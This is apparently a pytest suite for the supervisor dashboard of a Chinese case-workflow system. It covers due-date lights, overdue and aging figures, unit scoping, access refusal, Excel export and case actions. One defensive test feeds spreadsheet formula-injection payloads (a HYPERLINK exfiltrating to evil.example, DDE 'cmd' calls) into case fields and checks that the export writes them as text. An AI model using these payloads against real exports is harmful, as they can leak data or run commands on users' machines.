"""The supervisor's dashboard: every figure equals the list behind it; lights by due date, stalled by last
activity, overdue by department and unit, aging, errors, work per step; unit scope; clerks refused; the Excel
export; the case actions (suspend, resume, terminate, retry)."""
from __future__ import annotations

import re
from datetime import datetime, timedelta, timezone
from html import unescape
from io import BytesIO
from urllib.parse import unquote
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import select, update

from engine import supervision
from engine.access import Actor
from engine.accounts import add_user
from engine.errors import Forbidden, StepFailed
from engine.models import Case, Event, Incident, WorkItem
from tests.conftest import CASE_FACTS, as_user, complete_step, make_engine
from tests.processes.walk import walk

XINGHUA, SUZHOU = "joint_audit_xinghua", "joint_audit_suzhou"
NOW = datetime(2026, 11, 20, 2, 0)  # naive UTC, like the engine's clock
SCOPED = "sup_shagou"
SCOPED_PASSWORD = "correct horse battery"
BOSS = Actor("supervisor", frozenset({"supervisor"}))


class Clock:
    def __init__(self, now: datetime) -> None:
        self.now = now

    def __call__(self) -> datetime:
        return self.now


@pytest.fixture
def world(tmp_path):
    """Cases at known ages (clock driven), each made to stand for one figure."""
    url = f"sqlite:///{tmp_path}/s.db"
    eng = make_engine(url)
    clock = Clock(NOW)
    eng.clock = clock
    with eng.db.transaction() as s:
        add_user(s, SCOPED, SCOPED_PASSWORD, ["supervisor"], ["沙沟镇"])
    org = as_user(eng, "organization")

    def start(name, unit, days_ago, key=XINGHUA):
        clock.now = NOW - timedelta(days=days_ago)
        return eng.start_case(key, dict(CASE_FACTS, cadre_name=name, unit=unit), org)

    cases = {
        # issue_notice is due 5 days after the start (dueIn P5D).
        "red": start("红一", "戴窑镇", 20),  # due 15 days ago, no activity since: red and stalled
        "yellow": start("黄一", "戴窑镇", 4),  # due in 1 day
        "green": start("绿一", "沙沟镇", 0),  # due in 5 days
        "old": start("老一", "安丰镇", 40),  # due 35 days ago, waiting 40 days at one step
        "suzhou": start("苏一", "常熟市", 1, SUZHOU),
        "error": start("错一", "沙沟镇", 2),
        "suspended": start("停一", "陶庄镇", 2),
        "done": start("终一", "陶庄镇", 50),  # terminated below: counts nowhere
    }
    # A case at the three parallel reviews since 60 days: overdue for organization, staffing and audit.
    cases["reviews"] = start("审一", "沙沟镇", 60)
    walk(eng, cases["reviews"], "review_personnel")
    clock.now = NOW
    eng.record_incident(cases["error"], {"kind": "timers"}, "测试系统异常")
    from engine import incidents

    incidents.suspend(eng, cases["suspended"], as_user(eng, "supervisor"), "等待上级意见")
    incidents.terminate(eng, cases["done"], as_user(eng, "supervisor"))
    with eng.db.transaction() as s:  # projection columns set directly: acceptable for dashboard tests
        s.execute(update(Case).where(Case.id.in_([cases["red"], cases["reviews"]])).values(listed=True))
        s.execute(update(WorkItem).where(WorkItem.case_id == cases["old"]).values(
            created_at=NOW - timedelta(days=100)))

    from flask_babel import get_locale

    from web import create_app, supervise

    app = create_app({"DATABASE_URL": url, "SECRET_KEY": "t", "TESTING": True, "WTF_CSRF_ENABLED": False})
    if "supervise" not in app.blueprints:  # until web/__init__.py registers it
        app.register_blueprint(supervise.bp)
    app.jinja_env.globals.setdefault("get_locale", get_locale)
    app.extensions["duban"].clock = clock
    return {"engine": eng, "app": app, "cases": cases, "clock": clock}


def login(world, username="supervisor", password="demo"):
    client = world["app"].test_client()
    response = client.post("/login", data={"username": username, "password": password})
    assert response.status_code == 302, response.status_code
    return client


def text(response) -> str:
    return unescape(response.get_data(as_text=True))


def figures(html: str) -> dict[str, tuple[int, str]]:
    """The dashboard's cards: figure name -> (number, link)."""
    found = re.findall(r'<a class="figure[^"]*" href="([^"]+)" data-figure="([^"]+)".*?<b class="figure-value">(\d+)</b>',
                       html, re.S)
    return {name: (int(value), unescape(href)) for href, name, value in found}


def list_ids(html: str) -> list[int]:
    return [int(n) for n in re.findall(r'<tr[^>]* data-(?:case|item)="(\d+)"', html)]


def list_total(html: str) -> int:
    return int(re.search(r'data-total="(\d+)"', html).group(1))


def settings() -> supervision.Settings:
    return supervision.Settings()


def figure_of(eng, actor=BOSS, **kwargs):
    with eng.db.reading() as s:
        return supervision.summary(s, actor, NOW, settings(), **kwargs)


def listed(eng, flt, actor=BOSS):
    with eng.db.reading() as s:
        return supervision.list_page(s, actor, NOW, flt, settings())


# --- figures and their lists ----------------------------------------------------------------
def test_every_figure_equals_the_list_behind_it(world):
    client = login(world)
    page = text(client.get("/supervise/"))
    cards = figures(page)
    assert set(cards) == {"red", "yellow", "green", "stalled", "step_stalled", "overdue", "error", "suspended", "listed"}
    pairs = [(href, number) for number, href in cards.values()]
    # The tables: by department, by unit, aging, per step.
    pairs += [(href, int(n)) for href, n in re.findall(r'<a href="(/supervise/list\?[^"]+)">(\d+)</a>', page)]
    assert len(pairs) >= 9 + 3 + 3 + 4 + 3
    for href, number in pairs:
        html = text(client.get(href))
        assert number == list_total(html) == len(list_ids(html)), href  # fewer than 50: one page each


def test_numbers_in_the_tables_equal_their_lists(world):
    eng = world["engine"]
    summary = figure_of(eng)
    checks = [(supervision.ListFilter("overdue", role=g.key), g.count) for g in summary.overdue_by_role]
    checks += [(supervision.ListFilter("overdue", unit=g.key), g.count) for g in summary.overdue_by_unit]
    checks += [(supervision.ListFilter("age", bucket=b.key), b.count) for b in summary.aging]
    for load in summary.processes:
        checks += [(supervision.ListFilter("step", process=load.process_key, step=g.key), g.count)
                   for g in load.steps if g.count]
    checks += [(supervision.ListFilter("light", light=light), getattr(summary.lights, light)) for light in supervision.LIGHTS]
    checks += [(supervision.ListFilter(kind), n) for kind, n in (
        ("stalled", summary.stalled_cases), ("step_stalled", summary.stalled_steps), ("overdue", summary.overdue),
        ("error", summary.error), ("suspended", summary.suspended), ("listed", summary.listed))]
    for flt, number in checks:
        page = listed(eng, flt)
        assert page.total == number == len(page.rows), flt


def test_lights_follow_the_due_dates(world):
    eng, cases = world["engine"], world["cases"]
    lights = figure_of(eng).lights
    # Running: red, yellow, green, old, suzhou, reviews; error, suspended and terminated have no light.
    assert (lights.red, lights.yellow, lights.green) == (3, 1, 2)
    red = listed(eng, supervision.ListFilter("light", light="red"))
    assert [c.id for c in red.cases] == [cases["reviews"], cases["old"], cases["red"]]  # most overdue first
    first = red.cases[0]
    assert first.overdue_days == 45 and first.due_step and "审查" in first.due_step
    assert red.cases[2].overdue_days == 15 and red.cases[2].due_step == "下发联审通知"
    yellow = listed(eng, supervision.ListFilter("light", light="yellow")).cases
    assert [c.id for c in yellow] == [cases["yellow"]] and yellow[0].due_in_days == 1
    green = {c.id for c in listed(eng, supervision.ListFilter("light", light="green")).cases}
    assert green == {cases["green"], cases["suzhou"]}

    html = text(login(world).get("/supervise/list?kind=light&light=red"))
    assert "逾期 15 天" in html and "下发联审通知" in html and f'href="/cases/{cases["red"]}"' in html


def test_yellow_days_is_a_setting(world, monkeypatch):
    eng, cases = world["engine"], world["cases"]
    wider = supervision.Settings.from_config({"DUBAN_YELLOW_DAYS": "10"})
    with eng.db.reading() as s:
        lights = supervision.light_counts(s, BOSS, NOW, wider)
    assert (lights.yellow, lights.green) == (3, 0)  # green and suzhou are now due within 10 days
    monkeypatch.setenv("DUBAN_STALLED_DAYS", "30")
    assert supervision.Settings.from_config({}).stalled_days == 30
    assert supervision.Settings.from_config({"DUBAN_STALLED_DAYS": "x"}).stalled_days == 14
    world["app"].config["DUBAN_YELLOW_DAYS"] = 10
    assert figures(text(login(world).get("/supervise/")))["yellow"][0] == 3
    yellow = text(login(world).get("/supervise/list?kind=light&light=yellow"))
    assert set(list_ids(yellow)) == {cases["yellow"], cases["green"], cases["suzhou"]}


def test_stalled_by_last_activity_and_by_step_age(world):
    eng, cases = world["engine"], world["cases"]
    stalled = listed(eng, supervision.ListFilter("stalled")).cases
    assert [c.id for c in stalled] == [cases["reviews"], cases["old"], cases["red"]]  # longest idle first
    # Activity brings a case back: the red case's notice is issued today.
    complete_step(eng, cases["red"], "issue_notice")
    assert cases["red"] not in {c.id for c in listed(eng, supervision.ListFilter("stalled")).cases}
    waiting = listed(eng, supervision.ListFilter("step_stalled")).items
    assert sorted({w.case_id for w in waiting}) == sorted([cases["reviews"], cases["old"]])
    assert all(w.age_days > 30 for w in waiting)


def test_overdue_by_department_and_unit(world):
    eng, cases = world["engine"], world["cases"]
    summary = figure_of(eng)
    by_role = {g.key: g.count for g in summary.overdue_by_role}
    # reviews: one item each for organization, staffing, audit; red and old (issue_notice): organization.
    assert by_role == {"organization": 3, "staffing": 1, "audit": 1}
    assert {g.key: g.label for g in summary.overdue_by_role}["staffing"] == "编办"
    assert {g.key: g.count for g in summary.overdue_by_unit} == {"沙沟镇": 3, "戴窑镇": 1, "安丰镇": 1}
    assert summary.overdue == 5  # the error and suspended cases' notices are due in 3 days
    staffing = listed(eng, supervision.ListFilter("overdue", role="staffing")).items
    assert len(staffing) == 1 and staffing[0].case_id == cases["reviews"] and staffing[0].overdue_days == 45
    html = text(login(world).get("/supervise/"))
    assert "超期待办 按部门" in html and "超期待办 按单位" in html


def test_error_case_in_the_list_with_its_incident(world):
    eng, cases = world["engine"], world["cases"]
    assert figure_of(eng).error == 1
    rows = listed(eng, supervision.ListFilter("error")).cases
    assert [c.id for c in rows] == [cases["error"]] and rows[0].incident_message == "测试系统异常"
    html = text(login(world).get("/supervise/list?kind=error"))
    assert "测试系统异常" in html and "系统异常" in html
    assert [c.id for c in listed(eng, supervision.ListFilter("suspended")).cases] == [cases["suspended"]]


def test_aging_buckets(world):
    eng, cases = world["engine"], world["cases"]
    buckets = {b.key: b.count for b in figure_of(eng).aging}
    # 0–7: yellow, green, suzhou, error, suspended; 8–30: red; 31–90: the three reviews; >90: old.
    assert buckets == {"0-7": 5, "8-30": 1, "31-90": 3, "90+": 1}
    oldest = listed(eng, supervision.ListFilter("age", bucket="90+")).items
    assert [w.case_id for w in oldest] == [cases["old"]] and oldest[0].age_days == 100


def test_open_work_per_step_for_the_diagram(world):
    eng = world["engine"]
    loads = {load.process_key: load for load in figure_of(eng).processes}
    xinghua = loads[XINGHUA].counts()
    # issue_notice: red, yellow, green, old, and the error and suspended cases (their work stays open).
    assert xinghua["issue_notice"] == 6 and xinghua["review_establishment"] == 1 and xinghua["feedback"] == 0
    assert loads[SUZHOU].total == 1
    html = text(login(world).get("/supervise/"))
    assert 'data-diagram-url="/supervise/processes/joint_audit_xinghua/diagram.bpmn"' in html
    assert '"issue_notice": 6' in html
    client = login(world)
    xml = client.get(f"/supervise/processes/{XINGHUA}/diagram.bpmn")
    assert xml.status_code == 200 and xml.mimetype == "application/xml" and b"bpmndi:BPMNShape" in xml.data
    assert client.get("/supervise/processes/nope/diagram.bpmn").status_code == 404
    steps = text(client.get(f"/supervise/list?kind=step&process={XINGHUA}&step=issue_notice"))
    assert list_total(steps) == 6 and "下发联审通知 待办" in steps


def test_unit_scoped_supervisor_sees_only_their_units(world):
    eng, cases = world["engine"], world["cases"]
    scoped = as_user(eng, SCOPED)
    summary = figure_of(eng, scoped)
    # 沙沟镇: green (running), error, reviews (running, red).
    assert (summary.lights.red, summary.lights.yellow, summary.lights.green) == (1, 0, 1)
    assert summary.error == 1 and summary.suspended == 0 and summary.listed == 1
    assert {g.key for g in summary.overdue_by_unit} == {"沙沟镇"}
    assert sum(b.count for b in summary.aging) == 5  # green, error, three reviews
    client = login(world, SCOPED, SCOPED_PASSWORD)
    html = text(client.get("/supervise/list?kind=light&light=red"))
    assert list_ids(html) == [cases["reviews"]]
    assert "戴窑镇" not in text(client.get("/supervise/list?kind=overdue"))
    # Actions on a case outside the units are refused.
    assert client.post(f"/supervise/cases/{cases['red']}/suspend").status_code == 403
    assert client.post(f"/supervise/cases/{cases['green']}/suspend").status_code == 302


def test_clerks_and_strangers_are_refused_everywhere(world):
    case_id = world["cases"]["red"]
    urls = ["/supervise/", "/supervise/list?kind=light&light=red", "/supervise/list.xlsx?kind=overdue",
            f"/supervise/processes/{XINGHUA}/diagram.bpmn"]
    for username in ("organization", "unit", "designer"):
        client = login(world, username)
        for url in urls:
            assert client.get(url).status_code == 403, (username, url)
        assert client.post(f"/supervise/cases/{case_id}/suspend").status_code == 403
    anonymous = world["app"].test_client()
    for url in urls:
        response = anonymous.get(url)
        assert response.status_code == 302 and "/login" in response.headers["Location"]
    assert anonymous.post(f"/supervise/cases/{case_id}/suspend").status_code == 302
    with world["engine"].db.reading() as s:
        assert s.scalar(select(Case.status).where(Case.id == case_id)) == "running"
    with world["engine"].db.reading() as s, pytest.raises(Forbidden):
        supervision.summary(s, as_user(world["engine"], "organization"), NOW, settings())


def test_bad_list_arguments(world):
    client = login(world)
    assert client.get("/supervise/list?kind=nope").status_code == 404
    assert client.get("/supervise/list?kind=step&process=x").status_code == 404
    assert client.get("/supervise/list?kind=light&light=purple&page=zz").status_code == 200  # falls back to red, page 1
    assert client.get("/supervise/list?kind=red").status_code == 200


def test_pages_of_fifty(world):
    eng = world["engine"]
    with eng.db.transaction() as s:  # 60 more red cases: copies of the red one's summary row and work item
        red = s.get(Case, world["cases"]["red"])
        item = s.scalars(select(WorkItem).where(WorkItem.case_id == red.id)).one()
        for n in range(60):
            copy = Case(process_version_id=red.process_version_id, process_key=red.process_key, title=f"复制 {n}",
                        unit=red.unit, status="running", current_steps=red.current_steps, state_json="{}",
                        data_json="{}", lock_version=1, event_seq=0, started_by="t", started_at=red.started_at,
                        last_activity_at=red.last_activity_at, next_due_at=red.next_due_at - timedelta(minutes=n))
            s.add(copy)
            s.flush()
            s.add(WorkItem(case_id=copy.id, task_id=f"t{n}", step_id=item.step_id, step_name=item.step_name,
                           role=item.role, unit=item.unit, status="ready", created_at=item.created_at,
                           due_at=copy.next_due_at, process_key=item.process_key))
    client = login(world)
    first = text(client.get("/supervise/list?kind=light&light=red"))
    second = text(client.get("/supervise/list?kind=light&light=red&page=2"))
    assert list_total(first) == 63 and len(list_ids(first)) == 50 and len(list_ids(second)) == 13
    assert not set(list_ids(first)) & set(list_ids(second))
    assert "第 1 / 2 页" in first and "page=2" in first
    workbook = _workbook(client.get("/supervise/list.xlsx?kind=light&light=red"))
    assert workbook.active.max_row == 1 + 63  # the export holds the whole list


# --- Excel ------------------------------------------------------------------------------------
def _workbook(response):
    from openpyxl import load_workbook

    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return load_workbook(BytesIO(response.data))


@pytest.mark.parametrize("query", ["kind=light&light=red", "kind=overdue", "kind=error", "kind=age&bucket=31-90"])
def test_excel_export_has_the_rows_of_the_list(world, query):
    client = login(world)
    html = text(client.get(f"/supervise/list?{query}"))
    response = client.get(f"/supervise/list.xlsx?{query}")
    book = _workbook(response)
    sheet = book.active
    rows = list(sheet.iter_rows(values_only=True))
    header, body = rows[0], rows[1:]
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width > 5 and sheet.column_dimensions["D"].width > 20
    if query.startswith("kind=light") or query == "kind=error":
        assert header[:4] == ("状态灯", "原因", "项目编号", "项目")
        assert [r[2] for r in body] == list_ids(html)
    else:
        assert header[:4] == ("待办编号", "项目编号", "项目", "环节")
        assert [r[0] for r in body] == list_ids(html)
    assert len(body) == list_total(html) > 0


def test_excel_dates_are_beijing_dates_and_the_file_name_is_chinese(world):
    eng, cases = world["engine"], world["cases"]
    response = login(world).get("/supervise/list.xlsx?kind=light&light=red")
    disposition = response.headers["Content-Disposition"]
    name = unquote(re.search(r"filename\*=UTF-8''(\S+)", disposition).group(1))
    assert name == f"督办-红灯项目-{(NOW + timedelta(hours=8)).date().isoformat()}.xlsx"
    assert 'filename="duban-light-red-' in disposition
    sheet = _workbook(response).active
    row = next(r for r in sheet.iter_rows(min_row=2, values_only=True) if r[2] == cases["red"])
    with eng.db.reading() as s:
        due = s.scalar(select(Case.next_due_at).where(Case.id == cases["red"]))
    beijing = due.replace(tzinfo=timezone.utc).astimezone(ZoneInfo("Asia/Shanghai")).replace(tzinfo=None)
    assert isinstance(row[9], datetime) and abs(row[9] - beijing) < timedelta(seconds=1)
    assert row[0] == "红灯" and row[1].startswith("逾期 15 天")
    cell = sheet.cell(row=2, column=10)
    assert "yy" in cell.number_format


def test_excel_writes_formula_like_text_as_text(world):
    """A cadre typed as =HYPERLINK(…) must not become a live formula in the supervisor's Excel."""
    eng, clock = world["engine"], world["clock"]
    clock.now = NOW
    evil = {"cadre_name": '=HYPERLINK("http://evil.example/?"&A1,"点我")', "post": "+cmd|' /C calc'!A0",
            "unit": "@SUM(1+1)*cmd|' /C calc'!A0"}
    case_id = eng.start_case(XINGHUA, dict(CASE_FACTS, **evil), as_user(eng, "organization"))
    client = login(world)
    for query, id_column in (("kind=light&light=green", 3), ("kind=step&process=joint_audit_xinghua&step=issue_notice", 2)):
        sheet = _workbook(client.get(f"/supervise/list.xlsx?{query}")).active
        (row,) = [r for r in sheet.iter_rows(min_row=2) if r[id_column - 1].value == case_id]
        texts = [c for c in row if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]
        assert {c.value for c in texts} >= {f"{evil['cadre_name']} {evil['post']} （{evil['unit']}）", evil["unit"]}
        assert all(c.data_type == "s" for c in texts), [(c.value, c.data_type) for c in texts]
        assert not [c.coordinate for r in sheet.iter_rows() for c in r if c.data_type == "f"]


# --- case actions -----------------------------------------------------------------------------
def status_of(eng, case_id):
    with eng.db.reading() as s:
        return s.scalar(select(Case.status).where(Case.id == case_id))


def test_suspend_resume_terminate(world):
    eng, case_id = world["engine"], world["cases"]["green"]
    client = login(world)
    response = client.post(f"/supervise/cases/{case_id}/suspend", data={"note": "等待纪委意见"})
    assert response.status_code == 302 and response.headers["Location"].endswith(f"/cases/{case_id}")
    assert status_of(eng, case_id) == "suspended"
    assert "已暂停" in text(client.get(f"/cases/{case_id}"))
    assert client.post(f"/supervise/cases/{case_id}/suspend").status_code == 409  # already suspended
    assert client.post(f"/supervise/cases/{case_id}/resume").status_code == 302
    assert status_of(eng, case_id) == "running"
    assert client.post(f"/supervise/cases/{case_id}/terminate", data={"note": "干部已调离"}).status_code == 302
    assert status_of(eng, case_id) == "terminated"
    with eng.db.reading() as s:
        kinds = s.scalars(select(Event.kind).where(Event.case_id == case_id).order_by(Event.seq)).all()
        notes = [e.data_after.get("note") for e in s.scalars(select(Event).where(Event.case_id == case_id)).all()
                 if e.data_after]
        ready = s.scalars(select(WorkItem).where(WorkItem.case_id == case_id, WorkItem.status == "ready")).all()
    assert kinds[-3:] == ["case_suspended", "case_resumed", "case_terminated"]
    assert "等待纪委意见" in notes and "干部已调离" in notes and not ready
    assert client.post(f"/supervise/cases/{case_id}/resume").status_code == 409
    assert client.post(f"/supervise/cases/{case_id}/explode").status_code == 404
    assert client.post("/supervise/cases/99999/suspend").status_code == 404


def test_retry_an_error_case(world):
    eng, case_id = world["engine"], world["cases"]["error"]
    client = login(world)
    assert client.post(f"/supervise/cases/{case_id}/retry").status_code == 302
    assert status_of(eng, case_id) == "running"
    with eng.db.reading() as s:
        incident = s.scalars(select(Incident).where(Incident.case_id == case_id)).one()
    assert incident.status == "resolved" and incident.resolved_by == "supervisor"
    assert "已重试" in text(client.get(f"/cases/{case_id}"))
    assert client.post(f"/supervise/cases/{case_id}/retry").status_code == 409  # nothing to retry any more
    assert figure_of(eng).error == 0


def test_case_actions_partial(world):
    from flask import render_template
    from flask_login import login_user

    from engine.models import User
    from web.auth import SignedIn

    eng, cases, app = world["engine"], world["cases"], world["app"]
    eng.record_incident(cases["error"], {"kind": "timers"}, StepFailed("定时器处理失败", details={
        "step_id": "issue_notice", "step_name": "下发联审通知", "trace": "Traceback (most recent call last):\n  KeyError: 'x'"}))
    with eng.db.reading() as s:
        error_ctx = supervision.case_actions_context(s, cases["error"])
        suspended_ctx = supervision.case_actions_context(s, cases["suspended"])
        done_ctx = supervision.case_actions_context(s, cases["done"])
        boss = s.scalar(select(User).where(User.username == "supervisor"))
        clerk = s.scalar(select(User).where(User.username == "organization"))
    assert error_ctx["actions"] == ["retry", "suspend", "terminate"] and error_ctx["incidents"][0].message == "测试系统异常"
    assert suspended_ctx["actions"] == ["resume", "terminate"] and done_ctx["actions"] == []

    def render(user, ctx):
        with app.test_request_context("/"):
            login_user(SignedIn(user))
            return unescape(render_template("supervise/_case_actions.html", case_id=ctx["case_id"],
                                            status=ctx["status"], incidents=ctx["incidents"]))

    html = render(boss, error_ctx)
    assert "测试系统异常" in html and "定时器处理失败" in html and "下发联审通知" in html
    assert "技术细节" in html and "KeyError: 'x'" in html
    assert f'action="/supervise/cases/{cases["error"]}/retry"' in html and 'name="csrf_token"' in html
    assert f'/supervise/cases/{cases["error"]}/resume' not in html
    html = render(boss, suspended_ctx)
    assert "/resume" in html and "/terminate" in html and "/retry" not in html and "/suspend" not in html
    assert "/supervise/cases/" not in render(boss, done_ctx)
    assert render(clerk, error_ctx).strip() == ""
    with app.test_request_context("/"):
        login_user(SignedIn(boss))
        assert app.jinja_env.globals["supervise_case_actions"](cases["error"])["status"] == "error"
        login_user(SignedIn(clerk))
        assert app.jinja_env.globals["supervise_case_actions"](cases["error"]) is None
